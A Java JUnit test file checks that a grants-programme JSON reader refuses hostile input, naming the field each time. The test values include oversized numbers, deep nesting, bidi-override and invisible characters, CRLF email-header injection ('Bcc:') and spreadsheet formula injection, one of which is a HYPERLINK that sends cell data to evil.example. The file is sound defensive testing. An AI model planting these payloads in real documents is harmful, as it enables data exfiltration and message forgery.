package grants.documents;

import com.fasterxml.jackson.databind.node.ObjectNode;
import grants.core.errors.InvalidInputException;
import grants.core.errors.Problem;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

/**
 * Hostile and clumsy programme documents, each refused with the field named before anything is
 * converted or stored: the attacks of the hardening issue, one by one.
 */
class StrictDocumentsTest {

    private static String westMidlands() {
        return Json.write(Fixtures.document(Fixtures.WEST_MIDLANDS));
    }

    /** The problems a document is refused with, read as the API and the runner read one. */
    private static List<Problem> refusal(String document) {
        InvalidInputException refused = catchThrowableOfType(
                () -> ProgrammeJson.read(Json.parse(document)), InvalidInputException.class);
        assertThat(refused).as("the document is refused").isNotNull();
        return refused.details();
    }

    private static List<Problem> refusal(ObjectNode document) {
        return refusal(Json.write(document));
    }

    private static String field(List<Problem> problems) {
        assertThat(problems).isNotEmpty();
        return problems.get(0).field();
    }

    @ParameterizedTest
    @ValueSource(strings = {"1e999999999", "1e9999999", "-1e-999999999", "12345678901234567890.5"})
    void anAmountWhoseSizeIsAbsurdIsRefusedBeforeItIsExpanded(String number) {
        String document = westMidlands().replace("\"SINGLE_TIER\":\"19600.00\"", "\"SINGLE_TIER\":" + number);

        assertThat(field(refusal(document))).isEqualTo("grantRates.SINGLE_TIER");
    }

    @Test
    void aNumberOfTwoThousandDigitsIsRefusedNamingItsField() {
        String document = westMidlands().replace("\"SINGLE_TIER\":\"19600.00\"", "\"SINGLE_TIER\":" + "9".repeat(2_000));

        assertThat(field(refusal(document))).isEqualTo("grantRates.SINGLE_TIER");
    }

    @Test
    void aDocumentNestedAHundredThousandDeepIsRefused() {
        String document = "{\"programmeId\":\"deep\",\"name\":" + "[".repeat(100_000) + "]".repeat(100_000) + "}";

        assertThat(refusal(document).get(0).problem()).contains("nested more than");
    }

    @Test
    void aTwentyFiveMegabyteStringIsRefusedNamingItsField() {
        String document = westMidlands().replace("\"region\":\"West Midlands\"",
                "\"region\":\"" + "x".repeat(25 * 1024 * 1024) + "\"");

        assertThat(refusal(document)).singleElement().satisfies(problem -> {
            assertThat(problem.field()).isEqualTo("region");
            assertThat(problem.problem()).contains("more than 100000 characters");
        });
    }

    @Test
    void aKeyGivenTwiceIsRefusedNotSilentlyReplaced() {
        String document = westMidlands().replace("\"grantRates\":{",
                "\"grantRates\":{\"SINGLE_TIER\":\"1.00\",\"TWO_TIER\":\"1.00\"},\"grantRates\":{");

        assertThat(refusal(document)).singleElement().satisfies(problem -> {
            assertThat(problem.field()).isEqualTo("grantRates");
            assertThat(problem.problem()).contains("twice");
        });
    }

    @Test
    void aMisspeltFieldIsRefusedNamingIt() {
        ObjectNode document = Fixtures.document(Fixtures.WEST_MIDLANDS);
        document.put("grantBuget", "372400.00");
        ((ObjectNode) document.get("partnerships").get(2)).put("countty", "warwickshire");

        assertThat(refusal(document)).extracting(Problem::field)
                .containsExactlyInAnyOrder("grantBuget", "partnerships[2].countty");
    }

    @Test
    void aNameLongerThanItsMaximumIsRefused() {
        ObjectNode document = Fixtures.document(Fixtures.WEST_MIDLANDS);
        ((ObjectNode) document.get("partnerships").get(0)).put("name", "B".repeat(450 * 1024));

        assertThat(refusal(document)).singleElement().satisfies(problem -> {
            assertThat(problem.field()).isEqualTo("partnerships[0].name");
            assertThat(problem.problem()).contains("more than 100000 characters");
        });
        ((ObjectNode) document.get("partnerships").get(0)).put("name", "B".repeat(201));
        assertThat(refusal(document)).filteredOn(problem -> problem.field().equals("partnerships[0].name"))
                .singleElement().satisfies(problem -> assertThat(problem.problem()).contains("more than the 200 allowed"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"Birming\u0000ham", "Birmingham\u202Egnp.exe", "Birm\u001B[2Jingham", "Birmingham\u2066"})
    void controlAndBidirectionalOverrideCharactersAreRefused(String name) {
        ObjectNode document = Fixtures.document(Fixtures.WEST_MIDLANDS);
        ((ObjectNode) document.get("partnerships").get(0)).put("name", name);

        assertThat(field(refusal(document))).isEqualTo("partnerships[0].name");
    }

    /** Zero-width and other invisible characters make two names that look alike differ, or hide text. */
    @ParameterizedTest
    @ValueSource(strings = {"Birming\u200Bham", "Birmingham\u2066", "\uFEFFBirmingham", "Birming\u00ADham",
            "Birmingham\u2060", "Birmingham\uDB40\uDC41\uDB40\uDC42"})
    void invisibleFormattingCharactersAreRefusedNamingTheField(String name) {
        ObjectNode document = Fixtures.document(Fixtures.WEST_MIDLANDS);
        ((ObjectNode) document.get("partnerships").get(0)).put("name", name);

        assertThat(refusal(document)).filteredOn(problem -> problem.field().equals("partnerships[0].name"))
                .singleElement().satisfies(problem -> assertThat(problem.problem()).containsAnyOf(
                        "invisible formatting characters", "bidirectional-override characters"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"Lead\u2028Bcc: everyone@elsewhere.example", "Lead\u2029Bcc: everyone@elsewhere.example"})
    void aLineOrParagraphSeparatorInAContactsNameIsRefusedNamingTheField(String name) {
        ObjectNode document = Fixtures.document(Fixtures.WEST_MIDLANDS);
        ((ObjectNode) document.get("partnerships").get(0).get("contacts").get(0)).put("name", name);

        assertThat(refusal(document)).filteredOn(problem -> problem.field().equals("partnerships[0].contacts[0].name"))
                .singleElement().satisfies(problem -> assertThat(problem.problem())
                        .contains("must not contain line or paragraph separators, found U+202"));
    }

    /** Text of several lines keeps its line breaks and tabs, but not Unicode's separators or invisible characters. */
    @ParameterizedTest
    @ValueSource(strings = {"Dear all,\u2028see below", "Dear all,\u2029see below", "Dear all,\n\u200Bsee below"})
    void multilineTextRefusesSeparatorsAndInvisibleCharactersButKeepsLineBreaks(String body) {
        FieldReader reader = new FieldReader();
        ObjectNode bulletin = Json.object().put("body", body);

        assertThat(reader.multilineText(bulletin, "", "body", true, FieldReader.MAX_MARKDOWN)).isNull();
        assertThat(reader.problems()).extracting(Problem::field).containsExactly("body");

        FieldReader fine = new FieldReader();
        assertThat(fine.multilineText(Json.object().put("body", "Dear all,\r\n\tsee below"), "",
                "body", true, FieldReader.MAX_MARKDOWN)).isEqualTo("Dear all,\r\n\tsee below");
        assertThat(fine.problems()).isEmpty();
    }

    /** The published schema, which editors and other tools check a file against, refuses them too. */
    @ParameterizedTest
    @ValueSource(strings = {"Birming\u200Bham", "\uFEFFBirmingham", "Lead\u2028Bcc: x@y.example", "Birmingham\u2064"})
    void thePublishedSchemaRefusesThemToo(String name) {
        ObjectNode document = Fixtures.document(Fixtures.WEST_MIDLANDS);
        ((ObjectNode) document.get("partnerships").get(0)).put("name", name);

        assertThat(DocumentSchemas.problems("programme", document)).extracting(Problem::field)
                .contains("partnerships[0].name");
        assertThat(DocumentSchemas.problems("programme", Fixtures.document(Fixtures.WEST_MIDLANDS))).isEmpty();
    }

    @Test
    void namesInOtherScriptsAndAccentsAreStillAccepted() {
        ObjectNode document = Fixtures.document(Fixtures.WEST_MIDLANDS);
        ((ObjectNode) document.get("partnerships").get(0)).put("name", "Ysgol Gymraeg Caerdydd \u00e2 \u0648\u0644\u0633\u0627\u0644 Zo\u00eb");

        assertThat(ProgrammeJson.read(document).partnerships().get(0).name()).startsWith("Ysgol Gymraeg");
    }

    @Test
    void aLineBreakInAContactsNameCannotForgeAnEmailHeader() {
        ObjectNode document = Fixtures.document(Fixtures.WEST_MIDLANDS);
        ((ObjectNode) document.get("partnerships").get(0).get("contacts").get(0))
                .put("name", "Lead\r\nBcc: everyone@elsewhere.example");

        assertThat(field(refusal(document))).isEqualTo("partnerships[0].contacts[0].name");
    }

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "@SUM(1+1)", "+1", "-2+3"})
    void textThatASpreadsheetWouldRunIsRefused(String name) {
        ObjectNode document = Fixtures.document(Fixtures.WEST_MIDLANDS);
        ((ObjectNode) document.get("partnerships").get(0)).put("name", name);
        document.putObject("finance").put("costCentre", "=1+2");

        assertThat(refusal(document)).extracting(Problem::field).contains("partnerships[0].name", "finance.costCentre");
    }

    @Test
    void theRealProgrammesAreAcceptedAsTheyAre() {
        for (String fixture : List.of(Fixtures.WEST_MIDLANDS, Fixtures.WARWICKSHIRE_WITHDRAWN)) {
            assertThat(ProgrammeJson.read(Fixtures.document(fixture)).partnerships()).hasSize(38);
        }
    }

    @Test
    void theCanonicalFormReadsBackUnderTheSameRules() {
        var programme = Fixtures.programme(Fixtures.WEST_MIDLANDS);

        assertThat(ProgrammeJson.inputHash(ProgrammeJson.read(ProgrammeJson.write(programme))))
                .isEqualTo(ProgrammeJson.inputHash(programme));
    }
}
